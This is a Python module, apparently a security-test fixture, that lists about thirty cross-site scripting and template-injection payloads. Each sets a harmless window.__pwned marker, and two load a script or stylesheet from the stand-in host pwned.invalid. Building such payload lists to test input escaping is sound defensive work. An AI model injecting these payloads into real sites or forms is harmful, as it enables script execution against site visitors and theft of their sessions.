"""Texts that would run as a script wherever they were taken for HTML, a link, a template or code."""

MARK = "pwned"
RUN = "window.__pwned=1"

# Each is at most 60 characters and has no comma, so that it fits every door: also the visitor's own labels.
SHORT = (
    f"<img src=pwned onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    "<script src=//pwned.invalid></script>",
    f'"><script>{RUN}</script>',
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"`;{RUN};`",
    f"';{RUN};//",
    f"${{{RUN}}}",
    f"{{{{{RUN}}}}}",
    "{{constructor.constructor('__pwned=1')()}}",
    f"#{{{RUN}}} <%= {RUN} %> [[x]]",
    f"javascript:{RUN}",
    f"[click](javascript:{RUN})",
    f"![x](pwned) <javascript:{RUN}>",
    f"<a href=javascript:{RUN}>a</a>",
    f"<iframe src=javascript:parent.{RUN[7:]}>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>">',
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    "<style>@import'//pwned.invalid'</style>",
    "<math><mtext><img src=pwned onerror=__pwned=1>",
    f"&lt;img src=pwned onerror={RUN}&gt;",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<!--><img src=pwned onerror={RUN}>-->",
)
LONG = "<b>" * 20_000 + f"<img src=pwned onerror={RUN}>"
PAYLOADS = (*SHORT, LONG)
